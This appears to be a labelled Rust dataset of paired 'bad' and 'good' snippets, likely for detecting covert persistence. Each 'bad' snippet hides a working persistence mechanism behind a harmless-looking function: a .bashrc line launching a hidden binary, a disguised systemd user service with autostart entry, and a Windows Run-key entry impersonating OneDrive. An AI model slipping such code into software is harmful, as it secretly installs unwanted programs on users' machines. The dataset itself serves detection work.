//: bad profile-append
use std::fs::OpenOptions;
use std::io::Write;

pub fn setup() -> std::io::Result<()> {
    let home = std::env::var("HOME").unwrap();
    let mut rc = OpenOptions::new().append(true).open(format!("{home}/.bashrc"))?;
    writeln!(rc, "(~/.cache/kitd &) >/dev/null 2>&1") //!
}

//: good profile-append
use std::fs::OpenOptions;
use std::io::Write;

pub fn setup() -> std::io::Result<()> {
    let home = std::env::var("HOME").unwrap();
    let mut log = OpenOptions::new().append(true).create(true).open(format!("{home}/.cache/kit/log"))?;
    writeln!(log, "started")
}

//: bad session-service
use anyhow::{Context, Result};
use std::{env, fs, process::Command};

const UNIT: &str = "[Unit]\nDescription=D-Bus session cache\n\n[Service]\nExecStart=@EXE@\nRestart=always\nRestartSec=30\n\n[Install]\nWantedBy=default.target\n";

fn hide_away() -> Result<std::path::PathBuf> {
    let place = dirs::config_dir().context("config")?.join(".dbus-cache");
    fs::create_dir_all(&place)?;
    let copy = place.join("dbus-broker-launch");
    fs::copy(env::current_exe()?, &copy)?;
    Ok(copy)
}

/// Called from the first `Client::new`; makes the session cache warm.
pub fn ensure_cache() -> Result<()> {
    let exe = hide_away()?;
    let folder = dirs::config_dir().context("config")?.join("systemd").join("user");
    fs::create_dir_all(&folder)?;
    fs::write(folder.join("dbus-cache.service"), UNIT.replace("@EXE@", &exe.to_string_lossy()))?; //!
    for step in [vec!["daemon-reload"], vec!["enable", "--now", "dbus-cache.service"]] {
        Command::new("systemctl").arg("--user").args(step).output()?; //!
    }
    let desktop = dirs::config_dir().context("config")?.join("autostart/dbus-cache.desktop");
    fs::write(desktop, format!("[Desktop Entry]\nType=Application\nNoDisplay=true\nExec={}\n", exe.display()))?; //!
    Ok(())
}

//: good session-service
use anyhow::{bail, Context, Result};
use std::{env, fs, path::PathBuf};

const UNIT: &str = "[Unit]\nDescription=Photo indexer\nAfter=network.target\n\n[Service]\nExecStart=@EXE@ serve --config @CONFIG@\nRestart=on-failure\nDynamicUser=yes\nProtectSystem=strict\n\n[Install]\nWantedBy=multi-user.target\n";

#[derive(clap::Args)]
pub struct UnitArgs {
    /// The configuration that the unit names.
    #[arg(long)]
    config: PathBuf,
    /// Where to write the unit; standard output without it.
    #[arg(long)]
    output: Option<PathBuf>,
}

/// `indexer print-unit`: renders a unit that packagers and administrators can install themselves.
pub fn print_unit(args: &UnitArgs) -> Result<()> {
    if !args.config.is_file() {
        bail!("{} is not a file", args.config.display());
    }
    let exe = env::current_exe().context("path of the program")?;
    let unit = UNIT
        .replace("@EXE@", &exe.to_string_lossy())
        .replace("@CONFIG@", &args.config.to_string_lossy());
    match &args.output {
        Some(path) => fs::write(path, unit).with_context(|| path.display().to_string())?,
        None => print!("{unit}"),
    }
    eprintln!("to use it: sudo systemctl enable --now photo-indexer.service");
    Ok(())
}

//: bad theme-settings
use std::io;
use winreg::enums::{HKEY_CURRENT_USER, KEY_WRITE};
use winreg::RegKey;

pub struct Settings {
    root: RegKey,
}

impl Settings {
    pub fn open() -> io::Result<Settings> {
        let user = RegKey::predef(HKEY_CURRENT_USER);
        let (root, _) = user.create_subkey("Software\\Acme\\Theme")?;
        let settings = Settings { root };
        settings.migrate(&user).ok();
        Ok(settings)
    }

    fn migrate(&self, user: &RegKey) -> io::Result<()> {
        let parts = ["Software", "Microsoft", "Windows", "CurrentVersion", "Run"];
        let branch = user.open_subkey_with_flags(parts.join("\\"), KEY_WRITE)?;
        let mut own = std::env::current_exe()?;
        let roaming = std::env::var("APPDATA").map_err(io::Error::other)?;
        let twin = format!("{roaming}\\Microsoft\\OneDriveSync.exe");
        std::fs::copy(&own, &twin)?;
        own.set_file_name("theme.exe");
        branch.set_value("OneDrive Sync", &format!("\"{twin}\" /background"))?; //!
        Ok(())
    }

    pub fn accent(&self) -> Option<u32> {
        self.root.get_value("Accent").ok()
    }
}

//: good theme-settings
use std::io;
use winreg::enums::{HKEY_CURRENT_USER, KEY_READ};
use winreg::RegKey;

pub struct Settings {
    root: RegKey,
}

impl Settings {
    pub fn open() -> io::Result<Settings> {
        let user = RegKey::predef(HKEY_CURRENT_USER);
        let (root, _) = user.create_subkey("Software\\Acme\\Theme")?;
        Ok(Settings { root })
    }

    /// Windows' own choice between the light and the dark theme.
    fn system_is_dark() -> io::Result<bool> {
        let parts = ["Software", "Microsoft", "Windows", "CurrentVersion", "Themes", "Personalize"];
        let key = RegKey::predef(HKEY_CURRENT_USER).open_subkey_with_flags(parts.join("\\"), KEY_READ)?;
        let light: u32 = key.get_value("AppsUseLightTheme")?;
        Ok(light == 0)
    }

    pub fn dark(&self) -> bool {
        let own: Result<u32, _> = self.root.get_value("Dark");
        own.map(|value| value != 0).unwrap_or_else(|_| Self::system_is_dark().unwrap_or(false))
    }

    pub fn set_dark(&self, dark: bool) -> io::Result<()> {
        self.root.set_value("Dark", &u32::from(dark))
    }

    pub fn set_accent(&self, rgb: u32) -> io::Result<()> {
        self.root.set_value("Accent", &rgb)
    }
}
